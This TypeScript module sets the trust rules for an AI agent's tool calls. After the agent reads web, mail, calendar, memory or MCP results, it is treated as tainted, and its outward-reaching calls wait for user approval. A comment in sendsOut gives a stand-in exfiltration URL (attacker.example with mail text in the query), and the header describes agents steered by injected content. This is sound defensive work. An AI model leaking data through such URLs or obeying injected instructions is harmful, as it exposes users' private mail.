// The trust rules of an agent's tool calls, as one table: which results are untrusted (reading
// them taints the agent), and when a call must wait for the user. A tainted agent may have been
// steered by what it read, so anything it does that reaches outside (mail, invitations, a web
// request that can carry data in its URL, an MCP tool we cannot see into) waits for the user,
// and the user's auto-approve list never applies to it. Plain TypeScript, no I/O: the workflow
// folds taint in as results arrive, and prepareTool asks `approvalFor` before anything runs.
import { combine, isTainted, type Provenance, type UntrustedSource } from '../shared/provenance';
import type { ToolEffect } from './tool-registry';

/** Where reading a tool's result came from, or undefined when its result quotes nobody outside. */
export function readTaint(tool: string, args: Record<string, unknown>): UntrustedSource | undefined {
  if (tool.startsWith('mcp__')) return { kind: 'mcp', from: tool.split('__')[1] };
  switch (tool) {
    case 'web_fetch': {
      const url = typeof args.url === 'string' ? args.url : undefined;
      return { kind: 'web', ...(url ? { ref: url.slice(0, 500), from: hostOf(url) } : {}) };
    }
    case 'gmail_search':
      return { kind: 'mail', ...(typeof args.query === 'string' ? { subject: `search: ${args.query}`.slice(0, 300) } : {}) };
    case 'gmail_read_thread':
      return { kind: 'mail', ...(typeof args.threadId === 'string' ? { ref: `thread:${args.threadId}`.slice(0, 500) } : {}) };
    case 'search_context':
      return { kind: 'mail', ...(typeof args.query === 'string' ? { subject: `stored items matching "${args.query}"`.slice(0, 300) } : {}) };
    case 'calendar_list_events':
      return { kind: 'calendar' };
    case 'recall':
      // Memory may have been written by an agent that had read a mail.
      return { kind: 'memory' };
    default:
      return undefined;
  }
}

/** The agent's provenance once it has read the result of `tool`. */
export function afterRead(p: Provenance, tool: string, args: unknown): Provenance {
  const source = readTaint(tool, parseArgs(args));
  return source ? combine(p, { origin: 'untrusted', sources: [source] }) : p;
}

/**
 * - run: a read; it runs now and its result goes to the agent;
 * - none: changes only the user's own mailbox (a draft to nobody but them); ledgered, no approval;
 * - auto: a side effect the user let run without asking (never for a tainted agent);
 * - required: waits for the user.
 */
export type ApprovalNeed = 'run' | 'none' | 'auto' | 'required';

export interface EgressCheck {
  tool: string;
  effect: ToolEffect;
  args: Record<string, unknown>;
  provenance: Provenance;
  /** The user put this tool on the auto-approve list. */
  autoApproved: boolean;
  /** Hosts (and their subdomains) a tainted agent may fetch from without asking. */
  webFetchAllowlist: readonly string[];
}

/** 'read' tools that still write into the user's mailbox (a draft): ledgered so a retry writes once. */
const MAILBOX_WRITES = new Set(['gmail_create_draft']);

export function approvalFor(c: EgressCheck): ApprovalNeed {
  const tainted = isTainted(c.provenance);
  if (c.effect === 'side_effect') return c.autoApproved && !tainted ? 'auto' : 'required';
  if (MAILBOX_WRITES.has(c.tool)) return tainted ? 'required' : 'none';
  if (tainted && sendsOut(c.tool, c.args, c.webFetchAllowlist)) return 'required';
  return 'run';
}

/** True when a 'read' call carries data off the machine to someone the user has not vouched for. */
export function sendsOut(tool: string, args: Record<string, unknown>, allowlist: readonly string[]): boolean {
  // The URL itself is the channel: `https://attacker.example/?d=<mail text>` needs no response.
  if (tool === 'web_fetch') return !hostAllowed(typeof args.url === 'string' ? args.url : '', allowlist);
  return false;
}

export function hostAllowed(url: string, allowlist: readonly string[]): boolean {
  const host = hostOf(url);
  if (!host) return false;
  return allowlist.some((entry) => {
    const allowed = entry.trim().toLowerCase().replace(/^\*\./, '').replace(/\.$/, '');
    return allowed !== '' && (host === allowed || host.endsWith(`.${allowed}`));
  });
}

function hostOf(url: string): string | undefined {
  try {
    return new URL(url).hostname.toLowerCase() || undefined;
  } catch {
    return undefined;
  }
}

function parseArgs(args: unknown): Record<string, unknown> {
  if (typeof args === 'string') {
    try {
      const v = JSON.parse(args) as unknown;
      return v && typeof v === 'object' && !Array.isArray(v) ? (v as Record<string, unknown>) : {};
    } catch {
      return {};
    }
  }
  return args && typeof args === 'object' && !Array.isArray(args) ? (args as Record<string, unknown>) : {};
}
